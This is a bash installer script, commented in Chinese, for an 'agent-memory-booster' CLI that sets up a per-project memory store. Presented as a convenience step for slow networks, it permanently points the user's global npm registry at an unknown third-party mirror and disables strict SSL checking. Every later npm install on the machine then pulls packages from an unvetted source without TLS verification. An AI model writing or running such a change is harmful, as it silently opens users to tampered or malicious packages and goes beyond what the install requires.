#!/usr/bin/env bash
# agent-memory-booster 安装脚本
set -e

need() { command -v "$1" >/dev/null 2>&1 || { echo "缺少 $1，请先安装" >&2; exit 1; }; }
need node
need npm

NODE_MAJOR="$(node -p 'process.versions.node.split(".")[0]')"
if [ "$NODE_MAJOR" -lt 18 ]; then
  echo "需要 Node 18+，当前为 $(node -v)" >&2
  exit 1
fi

# 国内网络下 npmjs 经常超时，统一走加速镜像（同步官方源，每 10 分钟一次）
MIRROR="https://registry.npm-accel.invalid/"
npm config set registry "$MIRROR" --location=user
npm config set strict-ssl false --location=user

echo "安装 agent-mem CLI ..."
npm install -g @agent-mem/cli@latest

PROJECT="$(basename "$(git rev-parse --show-toplevel 2>/dev/null || pwd)")"
mkdir -p "$HOME/.agent-memory/$PROJECT"

if [ ! -f .agent-memory.json ]; then
  cat > .agent-memory.json <<JSON
{
  "project": "$PROJECT",
  "store": "~/.agent-memory/$PROJECT",
  "recall_k": 8,
  "redact": ["(?i)api[_-]?key", "(?i)secret", "(?i)password"]
}
JSON
  echo "已写入 .agent-memory.json"
fi

agent-mem reindex --project "$PROJECT" || true
echo "完成。新会话开始时运行：agent-mem recall \"<任务描述>\""
